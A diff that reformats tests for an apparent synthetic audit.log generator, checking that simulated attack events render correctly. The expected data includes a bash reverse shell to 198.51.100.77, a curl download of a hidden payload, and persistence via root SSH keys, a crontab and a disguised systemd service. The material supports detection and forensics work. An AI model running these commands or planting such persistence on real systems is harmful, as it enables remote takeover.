@@ -30,8 +30,16 @@ describe('auditd value encoding', () => {
 
   it('renders one event as several records sharing one stamp', () => {
     const proc = { pid: 10, ppid: 1, uid: 33, gid: 33, auid: 4294967295, ses: 4294967295, tty: '(none)', comm: 'sh', exe: '/usr/bin/dash' };
-    const text = renderAuditEvent('1772409600.123', 77, [...execveEvent(proc, ['/bin/sh', '-c', 'id'], '/', '/bin/sh'), ...connectEvent(proc, ['sh'], '192.0.2.1', 443)]);
-    const stamps = new Set(text.trimEnd().split('\n').map((l) => /msg=audit\(([^)]+)\)/.exec(l)?.[1]));
+    const text = renderAuditEvent('1772409600.123', 77, [
+      ...execveEvent(proc, ['/bin/sh', '-c', 'id'], '/', '/bin/sh'),
+      ...connectEvent(proc, ['sh'], '192.0.2.1', 443),
+    ]);
+    const stamps = new Set(
+      text
+        .trimEnd()
+        .split('\n')
+        .map((l) => /msg=audit\(([^)]+)\)/.exec(l)?.[1]),
+    );
     expect(stamps).toEqual(new Set(['1772409600.123:77']));
     expect(text).toContain('type=EXECVE msg=audit(1772409600.123:77): argc=3 a0="/bin/sh" a1="-c" a2="id"');
     expect(text).toContain('arch=c000003e syscall=59');
@@ -97,7 +105,10 @@ describe('generated audit.log', () => {
     expect(shells.length).toBeGreaterThanOrEqual(2);
     const exec = shells.find((e) => field(e.records.get('SYSCALL')?.[0] ?? '', 'syscall') === '59');
     expect(field(exec?.records.get('SYSCALL')?.[0] ?? '', 'euid')).toBe('33');
-    const argv = (exec?.records.get('EXECVE')?.[0] ?? '').split(' ').slice(1).map((kv) => decode(kv.slice(kv.indexOf('=') + 1)));
+    const argv = (exec?.records.get('EXECVE')?.[0] ?? '')
+      .split(' ')
+      .slice(1)
+      .map((kv) => decode(kv.slice(kv.indexOf('=') + 1)));
     expect(argv.join(' ')).toMatch(/bash -i >& \/dev\/tcp\/198\.51\.100\.77\/443 0>&1/);
     const conn = shells.find((e) => e.records.has('SOCKADDR'));
     expect(field(conn?.records.get('SOCKADDR')?.[0] ?? '', 'saddr')).toBe(saddrInet('198.51.100.77', 443));
@@ -107,7 +118,9 @@ describe('generated audit.log', () => {
     const titles = mail.flatMap((e) => (e.records.get('PROCTITLE') ?? []).map((p) => decode(field(p, 'proctitle') ?? '')));
     expect(titles).toContain('curl -o /tmp/.x http://203.0.113.50/x');
     const created = mail.flatMap((e) => (e.records.get('PATH') ?? []).filter((p) => p.includes('nametype=CREATE')).map((p) => decode(field(p, 'name') ?? '')));
-    expect(created).toEqual(expect.arrayContaining(['/etc/systemd/system/netplan-sync.service', '/root/.ssh/authorized_keys', '/var/spool/cron/crontabs/root']));
+    expect(created).toEqual(
+      expect.arrayContaining(['/etc/systemd/system/netplan-sync.service', '/root/.ssh/authorized_keys', '/var/spool/cron/crontabs/root']),
+    );
     expect(mail.some((e) => e.records.has('ADD_USER'))).toBe(true);
   });
 });
